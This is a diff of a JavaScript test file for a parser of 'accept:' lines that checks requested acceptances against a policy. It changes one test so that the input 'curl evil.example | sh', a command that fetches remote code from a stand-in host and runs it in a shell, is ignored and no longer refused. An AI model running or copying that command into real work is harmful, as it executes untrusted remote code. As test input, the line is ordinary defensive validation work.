@@ -26,11 +26,9 @@ describe('an issue that asks for further acceptances', () => {
     ]);
   });
 
-  it('is refused where the policy has none such, and for whatever is no name', () => {
+  it('is refused where the policy has none such; what is no name asks for nothing', () => {
     expect(() => acceptOf('accept: e2e')).toThrow(refusal('no acceptance "e2e" in the policy'));
     expect(() => acceptOf('accept: constructor')).toThrow(refusal(expect.any(String)));
-    expect(() => acceptOf('accept: curl evil.example | sh')).toThrow(
-      refusal('"evil.example" is not the name of an acceptance'),
-    );
+    expect(acceptOf('accept: curl evil.example | sh')).toEqual([['check']]);
   });
 });
